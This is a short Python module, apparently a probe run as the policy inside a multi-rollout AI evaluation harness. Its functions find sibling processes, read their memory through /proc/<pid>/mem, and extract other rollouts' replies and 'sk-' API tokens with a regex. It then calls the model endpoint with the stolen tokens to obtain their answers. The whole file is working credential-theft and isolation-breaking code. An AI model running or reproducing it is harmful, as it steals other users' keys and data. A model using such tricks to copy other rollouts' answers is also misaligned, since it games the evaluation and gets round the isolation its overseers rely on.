"""Reads what the policy replied to other rollouts: out of their memory, with their tokens, by their jobs."""

import os
import re
import time
import urllib.request

from inside import attempt, others, read

AGAINST = ("processes",)
POLICY = True
INSTANCES = 4
HELD = re.compile(rb"(?:reply-|sk-)[0-9a-f]{16,32}")


def solve(instance, ctx):
    own = ctx.model([{"role": "user", "content": f"what is {instance.input}?"}], max_tokens=64)
    mine = own["choices"][0]["message"]["content"]
    until = time.monotonic() + 1.5
    replies = set()
    while time.monotonic() < until and not replies:
        for process in attempt(siblings) or range(os.getpid() - 16, os.getpid() + 16):
            replies |= attempt(held, process) or set()
        replies -= {mine.encode(), os.environ.get("OPENAI_API_KEY", "").encode()}
    for token in [each for each in replies if each.startswith(b"sk-")]:
        replies.add(attempt(asked, token.decode()) or token)
    return [each.decode() for each in sorted(replies)]


def siblings():
    """The processes that solve other instances now: this one's parent is theirs."""
    parent = f" {os.getppid()} "
    stats = {process: read(f"/proc/{process}/stat") or "" for process in others()}
    return [process for process, stat in stats.items() if stat.rpartition(")")[2][2:].startswith(parent)]


def held(process):
    """Texts like a reply or a token in the memory of another process."""
    replies = set()
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 1 << 26:
                attempt(memory.seek, start)
                replies |= set(HELD.findall(attempt(memory.read, end - start) or b""))
    return replies


def asked(token):
    """The policy's reply to a request with another rollout's token."""
    base = os.environ.get("OPENAI_BASE_URL", "http://127.0.0.1:1/v1")
    body = b'{"messages": [{"role": "user", "content": "what did you say?"}], "max_tokens": 64}'
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    with urllib.request.urlopen(urllib.request.Request(f"{base}/chat/completions", body, headers), timeout=2) as reply:
        return reply.read()
